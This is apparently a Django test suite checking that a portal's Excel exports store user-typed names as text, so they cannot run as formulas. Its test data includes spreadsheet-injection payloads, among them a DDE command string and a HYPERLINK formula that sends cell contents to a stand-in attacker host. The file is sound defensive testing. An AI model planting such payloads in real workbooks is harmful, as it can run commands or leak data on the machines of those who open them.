"""No cell of any workbook the portal produces is a formula unless the code writes one on
purpose: every value from data (a name a user typed as "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)")
is stored as text. One writer (common/workbooks.py) makes every workbook; the URL conf is
walked so that a new workbook download cannot go untested."""

import ast
import datetime
import functools
import inspect
import io
import re
from decimal import Decimal
from io import StringIO
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.http import FileResponse
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from common import workbooks
from common.workbooks import (
    BOLD,
    MAX_CELL_CHARACTERS,
    TEXT_FORMAT,
    append,
    formula,
    new_workbook,
    put,
    xlsx_bytes,
    xlsx_download,
)
from compounds.models import Community, Compound, Street
from oversight.imports import rules as import_rules
from oversight.models import (
    CampaignActivity,
    Inspection,
    Participant,
    PartyGroup,
    SupervisionRecord,
    Survey,
    TaskForce,
)
from progress.models import Milestone, Rectification, WeeklyMeeting
from progress.reports import report_build
from tests.conftest import build_world
from tests.test_exports import LISTS, _more_of_the_world
from tests.utils import shared_by_the_module

# What a resident or an office may type where a name goes, and what Excel would run.
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (
    DDE,
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "\t=2+2",
    "\r=3+3",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "＝1+1",
    "#N/A",
)


# --- The writer ---------------------------------------------------------------------------------


def _reopen(book) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(book)))


@pytest.mark.parametrize("write_only", [True, False])
def test_text_from_data_is_text_whatever_it_begins_with(write_only):
    """Each hostile value comes back as the same text, of data type "s", with Excel's quote
    prefix where it begins as a formula would; plain text stays plain."""
    book = new_workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    for value in (*HOSTILE, "甲一社区"):
        append(sheet, [value])
    cells = [row[0] for row in _reopen(book).active.iter_rows()]
    assert [cell.value for cell in cells] == [*HOSTILE, "甲一社区"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells] == [
        value.startswith(workbooks.FORMULA_STARTS) for value in (*HOSTILE, "甲一社区")
    ]


def test_put_writes_text_as_text_and_keeps_a_style():
    """put(), for workbooks laid out by hand, stores data as append() does and keeps a
    template's text format on an empty cell."""
    book = new_workbook()
    put(book.active, 1, 1, DDE, font=BOLD)
    put(book.active, 2, 1, None, number_format=TEXT_FORMAT)
    put(book.active, 3, 1, "1985", number_format=TEXT_FORMAT)
    sheet = _reopen(book).active
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].font.b) == (DDE, "s", True)
    assert sheet["A2"].number_format == TEXT_FORMAT
    assert (sheet["A3"].value, sheet["A3"].number_format) == ("1985", TEXT_FORMAT)


@pytest.mark.parametrize("write_only", [True, False])
def test_only_a_marked_formula_is_a_formula(write_only):
    book = new_workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    append(sheet, [1, 2, formula("=SUM(A1:B1)"), "=SUM(A1:B1)"])
    a, b, total, text = next(_reopen(book).active.iter_rows())
    assert (total.data_type, total.value) == ("f", "=SUM(A1:B1)")
    assert (text.data_type, text.value) == ("s", "=SUM(A1:B1)")
    with pytest.raises(ValueError):
        formula("SUM(A1:B1)")


def test_numbers_dates_none_and_long_text(settings):
    """Numbers stay numbers, a Decimal with two places; dates and date-times are dates (local
    time, no zone); None is an empty cell; text is cut at Excel's limit and loses the
    characters XML cannot hold; booleans read yes or no; lists are joined."""
    settings.TIME_ZONE = "Asia/Shanghai"
    moment = datetime.datetime(2020, 7, 1, 2, 30, tzinfo=datetime.UTC)
    book = new_workbook(write_only=True)
    sheet = book.create_sheet("s")
    long_text = "长" * (MAX_CELL_CHARACTERS + 10)
    values = [3, 2.5, Decimal("1234.50"), datetime.date(2020, 7, 17), moment, None, long_text,
              "a\x00b\x1fc", True, ["甲", None, "乙"]]  # fmt: skip
    with timezone.override("Asia/Shanghai"):
        append(sheet, values)
    row = next(_reopen(book).active.iter_rows())
    assert [cell.value for cell in row[:3]] == [3, 2.5, 1234.5]
    assert row[2].number_format == workbooks.DECIMAL_FORMAT
    assert row[3].value == datetime.datetime(2020, 7, 17)
    assert row[3].number_format == workbooks.DATE_FORMAT
    assert row[4].value == datetime.datetime(2020, 7, 1, 10, 30)
    assert row[4].number_format == workbooks.DATETIME_FORMAT
    assert row[5].value is None
    assert len(row[6].value) == MAX_CELL_CHARACTERS
    assert row[7].value == "abc"
    assert row[8].value in ("yes", "是")
    assert row[9].value == "甲、乙"


def test_a_download_is_named_in_any_script_and_kept_by_no_cache():
    book = new_workbook()
    append(book.active, ["x"])
    for content in (book, xlsx_bytes(book), io.BytesIO(xlsx_bytes(book))):
        response = xlsx_download(content, "甲街道-周报-2020-06-01.xlsx")
        assert response["Content-Type"] == workbooks.XLSX_CONTENT_TYPE
        assert response["Cache-Control"] == "private, no-store"
        assert response["Content-Disposition"] == (
            "attachment; filename*=utf-8''%E7%94%B2%E8%A1%97%E9%81%93-%E5%91%A8%E6%8A%A5"
            "-2020-06-01.xlsx"
        )
        if isinstance(response, FileResponse):
            response.file_to_stream.close()  # (close() would signal a request finished)


# --- No other writer -----------------------------------------------------------------------------

ROOT = Path(settings.BASE_DIR)
WRITER = Path("common/workbooks.py")
# openpyxl's names that make a workbook or a cell: only the writer uses them.
WRITING_NAMES = {"Workbook", "WriteOnlyCell", "Cell", "MergedCell", "ExcelWriter"}
WRITING_MODULES = ("openpyxl.cell", "openpyxl.writer", "openpyxl.worksheet.worksheet",
                   "openpyxl.worksheet._write_only", "csv")  # fmt: skip
# The readers of what offices send (imports): they open workbooks, never write one. A CSV is
# read there, never written anywhere.
READERS = {Path("oversight/imports/reading.py"), Path("oversight/statistics/returns_import.py")}
COORDINATE = re.compile(r"\$?[A-Z]{1,3}\$?[0-9]+")
# The names the portal's code gives a worksheet.
SHEET_NAME = re.compile(r"sheet$|^ws$|^lists$|^human$", re.I)


def _modules():
    for app in ("common", "compounds", "progress", "oversight", "renovation"):
        for path in sorted((ROOT / app).rglob("*.py")):
            relative = path.relative_to(ROOT)
            if "migrations" not in relative.parts:
                yield relative, ast.parse(path.read_text(encoding="utf-8"))


def _is_coordinate(key) -> bool:
    """Whether a subscript's key may be a cell's coordinate ("A1", f"B{row}"), not a key of a
    dictionary named like a sheet (a preview's sheet["kind"])."""
    if isinstance(key, ast.Constant):
        return isinstance(key.value, str) and bool(COORDINATE.fullmatch(key.value))
    return not isinstance(key, ast.Constant)


def writes_of(tree) -> list[str]:
    """What a module does that only the writer may do: import openpyxl's workbook or cells,
    read or write CSV, open a workbook (load_workbook), or put a value into a sheet's cell
    (``sheet.append(...)``, ``sheet.cell(..., value=...)``, ``sheet["A1"] = ...``,
    ``cell.value = ...``) on a name that holds a sheet."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module.startswith(WRITING_MODULES) or (
                node.module.startswith("openpyxl") and names & (WRITING_NAMES | {"load_workbook"})
            ):
                found.append(f"line {node.lineno}: from {node.module} import {', '.join(names)}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.startswith(WRITING_MODULES) or alias.name == "openpyxl":
                    found.append(f"line {node.lineno}: import {alias.name}")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            owner = node.func.value
            owner_name = owner.id if isinstance(owner, ast.Name) else ""
            if node.func.attr == "append" and SHEET_NAME.search(owner_name):
                found.append(f"line {node.lineno}: {owner_name}.append(...)")
            if node.func.attr == "cell" and (
                any(keyword.arg == "value" for keyword in node.keywords) or len(node.args) > 2
            ):
                found.append(f"line {node.lineno}: .cell(..., value)")
        elif isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"line {node.lineno}: .value = ...")
                if (
                    isinstance(target, ast.Subscript)
                    and SHEET_NAME.search(getattr(target.value, "id", ""))
                    and _is_coordinate(target.slice)
                ):
                    found.append(f"line {node.lineno}: {target.value.id}[...] = ...")
    return found


def test_no_module_but_the_writer_makes_a_workbook():
    """Only common/workbooks.py makes a workbook or writes a cell; the importers only read."""
    offenders = {}
    for path, tree in _modules():
        if path == WRITER:
            continue
        found = writes_of(tree)
        if path in READERS:  # reading what offices send: openpyxl's reader and the csv module
            found = [line for line in found if "import" not in line]
        if found:
            offenders[str(path)] = found
    assert offenders == {}


def test_the_scan_sees_a_writer():
    """The scan flags the ways a module could write a cell itself."""
    source = """
from openpyxl import Workbook
import csv
book = Workbook()
sheet = book.active
sheet.append(["=1+1"])
sheet.cell(row=1, column=1, value="=1+1")
sheet["A1"] = "=1+1"
sheet["A1"].value = "=1+1"
"""
    assert len(writes_of(ast.parse(source))) == 6


# --- Every workbook the portal produces ----------------------------------------------------------

# Every URL whose view may answer with a workbook, and where its workbook comes from: each is
# requested below over records named as an attacker would name them.
MARKERS = ("list_export(", "xlsx_download(", "FileResponse(", "XLSX_CONTENT_TYPE", ".xlsx")
WORKBOOKS = {
    **dict.fromkeys(LISTS, "list export"),
    "dashboard": "the dashboard's figures",
    "oversight:statistics": "the statistics return",
    "oversight:import_template": "a register's import template",
    "progress:report_download": "a street's weekly or monthly report",
}
# Views that send a file but make no workbook.
NOT_WORKBOOKS = {
    "oversight:import_file": "the file an office uploaded, as it was sent",
    "oversight:fund_payment_document": "a payment's document (PDF or image), as uploaded",
    "progress:dailylog_photo": "a photo",
    "oversight:supervision_photo": "a photo",
    "oversight:public_photo": "a photo",
    "oversight:opinion_photo": "a photo",
    "oversight:privacy_photo": "a photo, to the resident who confirmed the phone",
}


def _views(resolver=None, namespace=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = ":".join(part for part in (namespace, pattern.namespace) if part) or None
            if inner != "admin":
                yield from _views(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield name, pattern.callback


@functools.cache
def _module_text(path: str) -> str:
    return Path(path).read_text(encoding="utf-8")


def _source(callback) -> str:
    """The view's source, when its module mentions a file at all (read once a module)."""
    view = getattr(callback, "view_class", None) or inspect.unwrap(callback)
    try:
        path = inspect.getsourcefile(view)
        if path is None or not any(marker in _module_text(path) for marker in MARKERS):
            return ""
        return inspect.getsource(view)
    except (OSError, TypeError):
        return ""


def test_every_workbook_url_is_covered():
    """A view that sends a spreadsheet (a list export, a download of a workbook) is in
    WORKBOOKS, and so requested by the test below, or in NOT_WORKBOOKS with its reason."""
    sending = {
        name
        for name, callback in _views()
        if any(marker in _source(callback) for marker in MARKERS)
    }
    assert sending - WORKBOOKS.keys() - NOT_WORKBOOKS.keys() == set(), "not covered"
    assert WORKBOOKS.keys() - sending == set(), "no longer a workbook"


def _hostile(world):
    """Name the world's records as an attacker would: streets, communities, compounds, the
    milestones and problems of the reports, each list's records."""
    _more_of_the_world(world)
    values = iter(HOSTILE * 4)
    Street.objects.filter(pk=world.street_a.pk).update(name=DDE)
    Street.objects.filter(pk=world.street_b.pk).update(name="=1+1")
    for community, name in zip(
        (world.community_a1, world.community_a2, world.community_b1),
        ("+1+1", "=2+5", "@SUM(1)"),
        strict=True,
    ):
        Community.objects.filter(pk=community.pk).update(name=name)
    for compound, name in zip((world.a1, world.a2, world.b1), ("=9+9", "-2+3", "\t=2+2"),
                              strict=True):  # fmt: skip
        Compound.objects.filter(pk=compound.pk).update(name=name)
    for model, field in (
        (Milestone, "name"),
        (Milestone, "owner"),
        (Rectification, "owner"),
        (Rectification, "description"),
        (WeeklyMeeting, "title"),
        (Inspection, "group"),
        (SupervisionRecord, "inspectors"),
        (Survey, "title"),
        (TaskForce, "name"),
        (PartyGroup, "name"),
        (Participant, "name"),
        (CampaignActivity, "title"),
    ):
        for pk in model.objects.values_list("pk", flat=True):
            model.objects.filter(pk=pk).update(**{field: next(values)})
    from renovation.cells import refresh_cells

    refresh_cells()
    return world


@pytest.fixture(scope="module")
def hostile_world(django_db_setup, django_db_blocker):
    with shared_by_the_module(django_db_blocker):
        world = _hostile(build_world())
        report_build(report_id=world.report_a.pk)
        yield world


def _requests(world) -> dict[str, list[str]]:
    """The URLs that produce each workbook of WORKBOOKS."""
    street, community = world.street_a.pk, world.community_a1.pk
    dashboard = reverse("dashboard")
    statistics = reverse("oversight:statistics")
    return {
        **{name: [f"{reverse(name)}?format=xlsx"] for name in LISTS},
        "dashboard": [f"{dashboard}?format=xlsx", f"{dashboard}?street={street}&format=xlsx",
                      f"{dashboard}?street={street}&community={community}&format=xlsx"],
        "oversight:statistics": [f"{statistics}?format=xlsx",
                                 f"{statistics}?street={street}&format=xlsx"],
        "oversight:import_template": [
            reverse("oversight:import_template", args=[kind]) for kind in import_rules.KINDS
        ],
        "progress:report_download": [
            reverse("progress:report_download", args=[world.report_a.pk])
        ],
    }  # fmt: skip


def _workbook(response) -> openpyxl.Workbook:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == workbooks.XLSX_CONTENT_TYPE
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.django_db
def test_no_workbook_holds_a_formula(client, hostile_world):
    """Over records whose names begin with =, +, -, @, a tab or a carriage return, no cell of
    any workbook the portal produces is a formula, and the names are there, as typed."""
    client.force_login(hostile_world.users["admin"])
    requests = _requests(hostile_world)
    assert requests.keys() == WORKBOOKS.keys()
    formulas, seen, texts_of, cached = [], set(), {}, []
    for name, urls in requests.items():
        texts_of[name] = set()
        for url in urls:
            response = client.get(url)
            if response.get("Cache-Control") != "private, no-store":
                cached.append(url)
            for sheet in _workbook(response).worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            formulas.append(f"{url} {sheet.title}!{cell.coordinate}: {cell.value}")
                        if isinstance(cell.value, str):
                            texts_of[name].add(cell.value)
        seen |= texts_of[name]
    assert formulas == []
    assert cached == [], "a workbook holds personal data: no cache keeps it"
    # The hostile names did reach the workbooks (the test proves something).
    assert {DDE, "=1+1", "+1+1", "=2+5"} <= texts_of["dashboard"]
    assert "=9+9" in texts_of["progress:report_download"]
    assert DDE in texts_of["oversight:statistics"]
    assert {"-2+3", "=9+9", "\t=2+2"} <= texts_of["compounds:compound_list"]
    assert set(HOSTILE) - {"#N/A"} <= seen


@pytest.mark.django_db
def test_the_dashboards_table_per_street_names_its_streets(client, hostile_world):
    """A selection over several streets is counted per street: each row is named by its
    street (the column was empty), its start rate a percentage."""
    client.force_login(hostile_world.users["admin"])
    sheet = _workbook(client.get(f"{reverse('dashboard')}?format=xlsx")).worksheets[1]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert rows.keys() == {DDE, "=1+1"}
    assert rows[DDE][3].value == 0.5
    assert rows[DDE][3].number_format == workbooks.PERCENT_FORMAT


@pytest.mark.django_db
def test_rebuild_reports_rewrites_a_report_stored_with_a_formula(client, hostile_world):
    """A report stored before the one writer (a compound's name as a live formula) is built
    again by `manage.py rebuild_reports`, after which it holds the name as text."""
    report = hostile_world.report_a
    old = openpyxl.Workbook()
    old.active.append(["=9+9"])
    report.file.save("weekly.xlsx", ContentFile(xlsx_bytes(old)), save=True)
    out = StringIO()
    call_command("rebuild_reports", "--dry-run", stdout=out)
    assert out.getvalue() == "1 ready reports would be built again.\n"
    call_command("rebuild_reports", stdout=out)
    assert out.getvalue().endswith("1 reports built again, 0 failed.\n")
    client.force_login(hostile_world.users["admin"])
    book = _workbook(client.get(reverse("progress:report_download", args=[report.pk])))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert "=9+9" in {cell.value for cell in cells}
